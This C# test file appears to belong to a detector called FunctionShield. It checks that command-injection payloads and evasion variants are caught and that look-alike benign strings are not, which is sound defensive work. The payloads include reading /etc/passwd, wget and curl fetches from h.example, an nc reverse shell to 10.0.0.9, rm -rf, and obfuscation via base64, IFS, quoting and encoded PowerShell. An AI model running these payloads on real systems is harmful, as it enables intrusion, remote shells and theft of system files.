using FunctionShield.Tests.Detection.Evasion;

namespace FunctionShield.Tests.Detection;

public class CommandInjectionEvasionTests(ITestOutputHelper output) : EvasionCheck(output)
{
    private const string Posix = "sh and bash";
    private const string Bash = "bash, ksh, zsh";
    private const string Cmd = "cmd.exe";

    private protected override EvasionSuite Suite => Attacks;

    internal static EvasionSuite Attacks => new()
    {
        ClassName = "command-injection",
        Place = "query.host",
        Attacks =
        [
            ";cat /etc/passwd", "; id", "| whoami", "; wget http://h.example/x -O /tmp/x", "&& ls -la /", "$(curl http://h.example/x)", "`uname -a`",
            "h.example;nc -e /bin/sh 10.0.0.9 4444", "h.example | ping -c 3 10.0.0.9", ";rm -rf /tmp/x", "h.example & type c:\\boot.ini", "\ncat /etc/passwd",
        ],
        Twins =
        [
            "rock & roll; cats / dogs", "who am i? | part 2", "cats; dogs; id cards", "ls, la & all of us", "price: $(5) off", "use `code` for names",
            "type: a & b", "first line\ncat pictures", "a | b | c", "tom & jerry; ping pong", "10 & 20 / 30", "R&D; H/R",
        ],
        Own =
        [
            EvasionFamily.Replace("IFS for spaces", Posix, " ", "${IFS}") with { IsAlone = true },
            EvasionFamily.Alone("IFS and an empty parameter", Posix, a => AfterName(a, "$IFS$9")),
            EvasionFamily.Of("tabs for spaces", Posix, a => AfterName(a, "\t")),
            EvasionFamily.Of("many spaces", Posix, a => AfterName(a, "    ")),
            EvasionFamily.Replace("plus for spaces", "a form decoder", " ", "+"),
            EvasionFamily.Of("brace expansion", Bash, a => a.Replace(";cat /etc/passwd", ";{cat,/etc/passwd}", StringComparison.Ordinal).Replace("ls -la /", "{ls,-la,/}", StringComparison.Ordinal).Replace("rm -rf /tmp/x", "{rm,-rf,/tmp/x}", StringComparison.Ordinal)),
            EvasionFamily.Of("redirection for a space", Posix, a => a.Replace("cat /etc", "cat</etc", StringComparison.Ordinal)),
            EvasionFamily.Alone("empty single quotes in the name", Posix, a => InName(a, n => n[..1] + "''" + n[1..])),
            EvasionFamily.Alone("empty double quotes in the name", Posix, a => InName(a, n => n[..1] + "\"\"" + n[1..])),
            EvasionFamily.Alone("single quotes around a letter", Posix, a => InName(a, n => n[..1] + "'" + n[1..2] + "'" + n[2..])),
            EvasionFamily.Alone("double quotes around the name", Posix, a => InName(a, n => "\"" + n + "\"")),
            EvasionFamily.Alone("backslash in the name", Posix, a => InName(a, n => n[..1] + "\\" + n[1..])),
            EvasionFamily.Alone("backslash before the name", Posix, a => InName(a, n => "\\" + n)),
            EvasionFamily.Alone("line continuation in the name", Posix, a => InName(a, n => n[..1] + "\\\n" + n[1..])),
            EvasionFamily.Alone("empty positional parameters in the name", Posix, a => InName(a, n => n[..1] + "$@" + n[1..])),
            EvasionFamily.Alone("unset variable in the name", Posix, a => InName(a, n => n[..1] + "${u}" + n[1..])),
            EvasionFamily.Alone("empty substitution in the name", Posix, a => InName(a, n => n[..1] + "$()" + n[1..])),
            EvasionFamily.Alone("empty backticks in the name", Posix, a => a.Contains('`', StringComparison.Ordinal) ? a : InName(a, n => n[..1] + "``" + n[1..])),
            EvasionFamily.Alone("path of the program", Posix, a => InName(a, n => n == "type" ? n : "/bin/" + n)),
            EvasionFamily.Alone("pattern for the program", Posix, a => InName(a, n => n == "type" ? n : "/???/" + n[..1] + "?" + n[2..])),
            EvasionFamily.Alone("brackets for a letter", Posix, a => InName(a, n => n == "type" ? n : "/bin/" + n[..1] + "[" + n[1..2] + "]" + n[2..])),
            EvasionFamily.Replace("pattern for the file", Posix, "/etc/passwd", "/e?c/p?sswd"),
            EvasionFamily.Alone("ANSI-C quoting", Bash, a => InName(a, n => "$'" + string.Concat(n.Select(c => $"\\x{(int)c:x2}")) + "'")),
            EvasionFamily.Of("variable for the name", Posix, a => a.Replace(";cat ", ";a=cat;$a ", StringComparison.Ordinal).Replace(";rm ", ";a=rm;$a ", StringComparison.Ordinal)),
            EvasionFamily.Of("variables for parts", Posix, a => a.Replace(";cat ", ";a=c;b=at;$a$b ", StringComparison.Ordinal)),
            EvasionFamily.Of("base64 into a shell", Posix, a => a.StartsWith(';') ? ";echo " + SharedFamilies.Base64Of(a[1..]) + "|base64 -d|sh" : a),
            EvasionFamily.Of("here-string into a shell", Bash, a => a.StartsWith(';') ? ";bash<<<$(base64 -d<<<" + SharedFamilies.Base64Of(a[1..]) + ")" : a),
            EvasionFamily.Of("reversed into a shell", Posix, a => a.StartsWith(";cat", StringComparison.Ordinal) ? ";echo 'dwssap/cte/ tac'|rev|sh" : a),
            EvasionFamily.Of("printf into a shell", Posix, a => a.StartsWith(";cat", StringComparison.Ordinal) ? ";printf '\\143\\141\\164\\40\\57\\145\\164\\143'|sh" : a),
            EvasionFamily.Of("eval", Posix, a => a.StartsWith(';') ? ";eval \"" + a[1..].Trim() + "\"" : a),
            EvasionFamily.Of("sh -c", Posix, a => a.StartsWith(';') ? ";sh -c '" + a[1..].Trim() + "'" : a),
            EvasionFamily.Of("env", Posix, a => a.StartsWith(';') ? ";env " + a[1..].Trim() : a),
            EvasionFamily.Of("line break instead of the operator", Posix, a => Operator(a, "\n")),
            EvasionFamily.Of("carriage return and line break", Posix, a => Operator(a, "\r\n")),
            EvasionFamily.Of("double bar", Posix, a => Operator(a, "||")),
            EvasionFamily.Of("double ampersand", Posix, a => Operator(a, "&&")),
            EvasionFamily.Of("single ampersand", Posix, a => Operator(a, "&")),
            EvasionFamily.Of("bar and ampersand", Bash, a => Operator(a, "|&")),
            EvasionFamily.Of("substitution", Posix, a => a.StartsWith(';') ? "x$(" + a[1..].Trim() + ")" : a),
            EvasionFamily.Of("backticks", Posix, a => a.StartsWith(';') ? "x`" + a[1..].Trim() + "`" : a),
            EvasionFamily.Of("process substitution", Bash, a => a.StartsWith(';') ? "<(" + a[1..].Trim() + ")" : a),
            EvasionFamily.Of("closes single quotes", Posix, a => a.StartsWith(';') ? "x'" + a + ";'" : a),
            EvasionFamily.Of("closes double quotes", Posix, a => a.StartsWith(';') ? "x\"" + a + ";\"" : a),
            EvasionFamily.Of("comment behind", Posix, a => a.Contains('`', StringComparison.Ordinal) || a.StartsWith('$') ? a : a + " #"),
            EvasionFamily.Of("operator behind", Posix, a => a.Contains('`', StringComparison.Ordinal) || a.StartsWith('$') ? a : a + ";"),
            EvasionFamily.Of("standard error moved", Posix, a => a.Contains('`', StringComparison.Ordinal) || a.StartsWith('$') ? a : a + " 2>&1"),
            EvasionFamily.Alone("carets", Cmd, a => a.Contains("whoami", StringComparison.Ordinal) || a.Contains("type", StringComparison.Ordinal) || a.Contains("ping", StringComparison.Ordinal) ? InName(a, n => string.Join('^', n.ToCharArray())) : a),
            EvasionFamily.Of("upper case", Cmd, a => a.Contains("whoami", StringComparison.Ordinal) || a.Contains("type", StringComparison.Ordinal) || a.Contains("ping", StringComparison.Ordinal) ? a.ToUpperInvariant() : a),
            EvasionFamily.Of("extension", Cmd, a => a.Replace("whoami", "whoami.exe", StringComparison.Ordinal)),
            EvasionFamily.Alone("cmd /c", Cmd, a => a.Contains("type", StringComparison.Ordinal) ? a.Replace("type", "cmd /c type", StringComparison.Ordinal) : a),
            EvasionFamily.Of("PowerShell, encoded", "PowerShell", a => a.StartsWith(';') ? ";powershell -enc " + Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes(a[1..])) : a),
            EvasionFamily.Of("PowerShell backticks", "PowerShell", a => a.StartsWith('|') ? "| wh`oam`i" : a),
        ],
        Lost = new()
        {
            ["base64 without padding"] = 2,
            ["base64url"] = 2,
            ["base64 in percent"] = 1,
            ["backslash before the name"] = 1,
        },
    };

    /// <summary>The first blank behind a program's name.</summary>
    private static string AfterName(string text, string instead)
    {
        string name = Name(text);
        return name.Length == 0 ? text : text.Replace(name + " ", name + instead, StringComparison.Ordinal);
    }

    private static string InName(string text, Func<string, string> write)
    {
        string name = Name(text);
        int at = name.Length == 0 ? -1 : text.LastIndexOf(name, StringComparison.Ordinal);
        return at < 0 ? text : text[..at] + write(name) + text[(at + name.Length)..];
    }

    private static string Operator(string text, string instead) => text.StartsWith(';') ? instead + text[1..] : text;

    private static string Name(string text)
    {
        string[] names = ["whoami", "wget", "curl", "uname", "ping", "type", "cat ", "nc ", "rm ", "ls ", "; id"];
        return names.FirstOrDefault(n => text.Contains(n, StringComparison.Ordinal))?.Trim(' ', ';') ?? "";
    }
}
